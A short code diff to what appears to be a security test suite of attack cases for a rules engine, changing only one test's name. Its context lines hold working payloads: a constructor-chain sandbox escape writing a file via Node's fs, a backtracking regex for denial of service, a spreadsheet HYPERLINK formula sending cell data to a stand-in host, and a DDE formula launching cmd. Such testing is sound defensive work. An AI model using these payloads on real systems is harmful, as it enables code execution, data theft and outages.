@@ -74,7 +74,7 @@ export function ruleAttacks(): Attack[] {
       ...{ ...discount, ...own, name: 'out by the constructor' },
       payload: `order.constructor.constructor("return process")().getBuiltinModule('node:fs').writeFileSync('CANARY', '')`,
     },
-    { ...filter, ...own, name: 'a pattern without an end', kind: 'dos', payload: '^(.+)+(.+)+!$' },
+    { ...filter, ...own, name: 'a pattern that never ends', kind: 'dos', payload: '^(.+)+(.+)+!$' },
     ...[
       ['a link that carries data away', '=HYPERLINK("https://evil.test/?"&A2,"Invoice")'],
       ['a program by an old channel', "@SUM(1+1)*cmd|' /C calc'!A0"],
